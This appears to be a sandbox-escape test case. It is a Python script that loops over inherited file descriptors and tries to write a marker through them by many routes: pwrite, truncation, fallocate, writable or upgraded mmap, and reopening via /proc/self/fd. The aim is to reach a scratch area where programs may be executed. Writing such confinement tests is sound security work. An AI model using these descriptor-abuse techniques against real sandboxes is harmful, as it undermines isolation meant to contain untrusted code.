# SPDX-License-Identifier: Apache-2.0
# attack: the descriptor of the scratch, which stays open where programs may be executed, as a way to write there
# class: scratch
# wins: scratch
# native: n/a: there is no scratch without proctor
# policy: exec: [/bin/cat]
from kit import *

tried()
mark = os.environ.get('MARK', 'x').encode() + NONCE.encode()
for fd in range(3, 5000):
    if sc('fcntl', fd, 1) < 0:
        continue
    sc('pwrite64', fd, mark, len(mark), 0)
    sc('write', fd, mark, len(mark))
    sc('ftruncate', fd, 0)
    sc('fallocate', fd, 3, 0, 4096)
    sc('fcntl', fd, 1033, 0)
    for prot in (2, 3):
        for flags in (1, 3):
            at = libc.mmap(None, 4096, prot, flags, fd, 0)
            if at not in (None, 2 ** 64 - 1):
                ctypes.memmove(at, mark, len(mark))
    at = libc.mmap(None, 4096, 1, 1, fd, 0)
    if at not in (None, 2 ** 64 - 1) and sc('mprotect', at, 4096, 3) == 0:
        ctypes.memmove(at, mark, len(mark))
    for path in ('/proc/self/fd/%d' % fd, '/dev/fd/%d' % fd):
        again = openat(path, 2)
        if again >= 0:
            sc('pwrite64', again, mark, len(mark), 0)
